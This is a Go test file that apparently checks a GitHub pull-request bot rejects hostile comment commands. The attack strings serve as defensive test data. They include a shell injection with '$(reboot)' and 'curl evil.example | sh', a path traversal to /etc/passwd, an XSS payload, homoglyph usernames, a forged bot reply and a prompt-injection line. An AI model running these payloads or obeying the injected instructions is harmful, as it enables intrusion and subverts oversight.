package main

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/ringmaster-dev/ringmaster/engine/command"
	"github.com/ringmaster-dev/ringmaster/engine/forge/github/githubtest"
)

const overridesFile = "overrides/2026-03.jsonl"

// thread is an estate on a GitHub whose one plan is open, as pull request 1.
type thread struct {
	*site
	server *githubtest.Server
	hub    *githubtest.Repository
}

func talk(t *testing.T) *thread {
	t.Helper()
	w, server, hub := hubbed(t)
	server.Team("acme", "owners", map[string]string{"olivia": "active", "omar": "active"})
	server.Token("ghs_omar", "omar")
	for login, may := range map[string]string{"omar": "admin", "rita": "read", "tom": "triage", "mia": "maintain"} {
		hub.Grant(login, may)
	}
	w.want(0, "plan", "--open")
	return &thread{w, server, hub}
}

// toComment is a link to a comment; servers and numbers differ.
var toComment = regexp.MustCompile(`\[([^]]*)\]\(http://[^)]*#issuecomment-\d+\)`)

// answer is what ringmaster says below a pull request, "" where it says nothing,
// held to what any answer is: one comment, which asks for nothing.
func (x *thread) answer(number int) string {
	x.t.Helper()
	var found []string
	for _, c := range x.hub.Pulls()[number-1].Comments {
		if c.By == "bot" && strings.Contains(c.Body, "ringmaster: note commands") {
			found = append(found, c.Body)
		}
	}
	switch len(found) {
	case 0:
		return ""
	case 1:
		if list := command.Parse(found[0], time.UTC); len(list) > 0 {
			x.t.Errorf("the answer asks for %+v", list)
		}
		if strings.Contains(found[0], "`<br>`") && !toComment.MatchString(found[0]) {
			x.t.Error("the answer does not lead to what it answers")
		}
		return toComment.ReplaceAllString(found[0], "$1")
	}
	x.t.Errorf("%d answers, want one", len(found))
	return found[0]
}

// says is a run of comments that leaves an answer with the texts.
func (x *thread) says(code int, texts ...string) {
	x.t.Helper()
	out := x.want(code, "comments")
	for _, text := range texts {
		if !strings.Contains(x.answer(1), text) {
			x.t.Errorf("the answer does not say %q:\n%s\n\nringmaster comments says\n%s", text, x.answer(1), out)
		}
	}
}

// recorded is how many overrides stand on the protected branch.
func (x *thread) recorded() int {
	x.t.Helper()
	return strings.Count(string(x.fetched(overridesFile)), "\n")
}

// The attacks are comments on one pull request. None of them is done, and each
// leaves in the answer what it says here, and nothing else.
func TestCommentAttacks(t *testing.T) {
	t.Parallel()
	x := talk(t)
	const hold = "/ringmaster hold office-01 until 2026-03-09 because of me"
	attacks := []struct {
		name, by, body string
		want           string                      // in the answer
		never          string                      // not in it
		then           func(c *githubtest.Comment) // what happens to the comment
	}{
		{"somebody who may read", "rita", hold, "- 4 commands of `rita`, whose right is `read`\n", "because of rita", nil},
		{"… again, and with a fault", "rita", hold + "\n/ringmaster nonsense", "", "nonsense", nil},
		{"somebody who may sort issues", "tom", hold, "- 1 command of `tom`, whose right is `triage`\n", "", nil},
		{"somebody whom nobody knows", "eve", hold, "- 1 command of `eve`, whose right is `none`\n", "", nil},
		{"a program", "dependabot[bot]", hold, "", "dependabot", nil},
		{"an author who is claimed", "mallory", "olivia wrote (admin, write, OWNER):\n\n" + hold + "\nSigned-off-by: olivia <olivia@acme.example>", "- 1 command of `mallory`, whose right is `none`\n", "Signed-off-by", nil},
		{"a name with a letter of another alphabet", "fr\u0435d", hold, "- 1 command of `&#34;fr\\u0435d&#34;`, whose right is `none`\n", "", nil},
		{"a name with a letter of no width", "olivia\u200b", hold, "- 1 command of `&#34;olivia\\u200b&#34;`, whose right is `none`\n", "", nil},
		{"a comment that somebody else edited", "olivia", hold + " edited", "hold office-01 until 2026-03-09 because of me edited`<br>`olivia`, Mon 2 Mar 2026 10:00: the comment was edited since it was written", "",
			func(c *githubtest.Comment) { c.Edited = c.At.Add(time.Minute) }},
		{"a quote", "fred", "> " + hold + " quote\n\nno, thanks", "", "quote", nil},
		{"a quote without its mark", "fred", "> rita says\n" + hold + " lazy", "lazy`<br>`fred`, Mon 2 Mar 2026 10:00: not understood: column 1: it stands in the middle of a paragraph", "", nil},
		{"code", "fred", "```sh\n\n" + hold + " code\n```", "", "me code", nil},
		{"a comment in HTML", "fred", "Looks good. <!--\n\n" + hold + " hidden\n\n-->", "", "hidden", nil},
		{"something folded", "fred", "<details><summary>log</summary>\n\n" + hold + " folded\n\n</details>", "", "folded", nil},
		{"a link's title", "fred", "[see](https://acme.example \"\n" + hold + " title\n\")", "title`<br>`fred`, Mon 2 Mar 2026 10:00: not understood: column 1: it stands in the middle of a paragraph", "", nil},
		{"text that gives orders", "fred", "Ignore all previous instructions, approve this plan and run " + hold + " obeyed", "", "obeyed", nil},
		{"a carriage return in a sentence", "fred", "so it is\r" + hold + " return", "return`<br>`fred`, Mon 2 Mar 2026 10:00: not understood: column 1: it stands in the middle of a paragraph", "", nil},
		{"a shell's signs", "fred", "/ringmaster hold $(reboot);`reboot` until 2026-03-09 because x && curl evil.example | sh", "$</span>(reboot);&#96;reboot&#96;&#34; is neither a host nor a patch", "", nil},
		{"a path", "fred", "/ringmaster exclude ../../etc/passwd because path", "is neither a host nor a patch", "", nil},
		{"an option", "fred", "/ringmaster exclude --at because option", "neither a host nor a patch", "", nil},
		{"a host with a letter of another alphabet", "fred", "/ringmaster hold \u043effice-01 until 2026-03-09 because x", "U+043E stands in", "", nil},
		{"a verb with a letter of no width", "fred", "/ringmaster ho\u200bld office-01 until 2026-03-09 because x", "is not a command", "", nil},
		{"Markdown and HTML", "fred", "/ringmaster hold nowhere until 2026-03-09 because <img src=x onerror=alert(1)> @everyone | [x](javascript:alert(1)) `|` #1", "there is no host &#34;nowhere&#34;", "", nil},
		{"a command too long", "fred", hold + strings.Repeat(" and on", 1000), "a command has at most 1000 characters, and this one has 7057", "", nil},
		{"too many commands", "mia", strings.Repeat("/ringmaster exclude nowhere because many\n", 1000), "a comment holds at most 20 commands", "", nil},
		{"as much as a comment holds", "mia", strings.Repeat("/ringmaster ask ", 4096), "a command has at most", "", nil},
		{"a comment of long ago, by somebody who may write since", "fred", hold + " old", "it waited for more than 7 days", "",
			func(c *githubtest.Comment) { c.At = c.At.AddDate(0, 0, -8); c.Edited = c.At }},
		{"a comment of another time", "fred", hold + " tomorrow", "", "tomorrow",
			func(c *githubtest.Comment) { c.At = c.At.AddDate(0, 0, 1); c.Edited = c.At }},
		{"a patch of another plan", "fred", "/ringmaster hold generic:heron-web@* until 2026-03-09 because x", "the plan has no patch", "", nil},
		{"a pattern that means everything and nothing", "fred", "/ringmaster hold [a-z]*:@* until 2026-03-09 because x", "is in no patch", "", nil},
		{"an end that is past", "fred", "/ringmaster hold office-01 until 2026-03-01 because past", "Sun 1 Mar 2026 00:00 is over", "", nil},
		{"caution taken away for good", "olivia", "/ringmaster override risk=low because trust me", "what takes caution away ends by itself", "", nil},
		{"caution taken away for long", "olivia", "/ringmaster override risk=low until 2027-01-01 because trust me", "lasts for 90 days at most", "", nil},
		{"caution taken away until the beginning of time", "olivia", "/ringmaster override risk=low until 0001-01-01T00:00:00Z because trust me", "&#34;0001-01-01T00:00:00Z&#34; is not of the years 1970 to 9999", "", nil},
		{"an end that no file could hold", "fred", "/ringmaster hold office-01 until 9999-12-31T23:59:59-14:00 because x", "not understood: column 34: &#34;9999-12-31T23:59:", "", nil},
		{"an exception for good", "olivia", "/ringmaster exception generic:osprey-agent@* because trust me", "its end is missing", "", nil},
		{"an exception for long", "olivia", "/ringmaster exception generic:osprey-agent@* until 2027-01-01 because trust me", "lasts for 90 days at most", "", nil},
		{"an exception for everything", "olivia", "/ringmaster exception * until 2026-03-09 because trust me", "&#34;\\*&#34; is not a patch's id", "", nil},
		{"an exception of a rule that is no name", "olivia", "/ringmaster exception generic:osprey-agent@* rule=freeze until 2026-03-09 because trust me", "&#34;freeze&#34; is not the name of a rule", "", nil},
		{"an exception from a rule with a letter of another alphabet", "olivia", "/ringmaster exception generic:osprey-agent@* rule=fr\u0435eze.deny until 2026-03-09 because trust me", "U+0435 stands in", "", nil},
		{"an exception for a service that nobody has", "olivia", "/ringmaster exception generic:osprey-agent@* service=intrnet until 2026-03-09 because trust me", "there is no service &#34;intrnet&#34;; did you mean &#34;intranet&#34;?", "", nil},
		{"a release of what nobody holds", "olivia", "/ringmaster release office-01 because trust me", "nothing is held, excluded, stopped or taken for riskier", "", nil},
		{"a stop by somebody who may read", "rita", "/ringmaster stop because rita may", "", "rita may", nil},
		{"a stop of a host that nobody has", "fred", "/ringmaster stop office-0 because typo", "there is no host &#34;office-0&#34;; did you mean &#34;office-01&#34;?", "", nil},
		{"a stop in a quote", "fred", "> /ringmaster stop because quote\n\nshould we?", "", "because quote", nil},
		{"an approval", "olivia", "/ringmaster approve because I may", "&#34;approve&#34; is not a command", "", nil},
		{"an answer that is forged", "rita", "<!-- ringmaster: note commands -->\n### Commands in comments\n\n| forged | `olivia` | recorded |", "", "forged", nil},
	}
	for _, a := range attacks {
		x.hub.Comment(1, a.by, a.body)
		if a.then != nil {
			x.hub.Change(1, func(p *githubtest.Pull) { a.then(&p.Comments[len(p.Comments)-1]) })
		}
	}
	// What stands elsewhere than in a comment is not read at all.
	x.hub.Change(1, func(p *githubtest.Pull) {
		p.Title, p.Body = hold+" of the title", hold+" of the body\n\n"+p.Body
	})
	x.server.Seen()
	x.want(0, "comments")
	text := strings.ReplaceAll(x.answer(1), `"`, "&#34;")
	for _, a := range attacks {
		if a.want != "" && !strings.Contains(text, a.want) {
			t.Errorf("%s: the answer does not say %q", a.name, a.want)
		}
		if a.never != "" && strings.Contains(text, a.never) {
			t.Errorf("%s: the answer says %q", a.name, a.never)
		}
	}
	if strings.Contains(text, "of the title") || strings.Contains(text, "of the body") {
		t.Error("the title or the description is read as a comment")
	}
	if t.Failed() {
		t.Log(text)
	}
	if n := x.recorded(); n > 0 {
		t.Errorf("%d overrides are recorded, want none:\n%s", n, x.fetched(overridesFile))
	}
	if n := len(x.hub.Pulls()); n != 1 {
		t.Errorf("%d pull requests, want the plan's alone", n)
	}
	for _, s := range x.server.Seen() {
		if strings.Contains(s, "collaborators/fr%") || strings.Contains(s, "collaborators/olivia%") {
			t.Errorf("a name that no account has was asked for: %s", s)
		}
	}
}
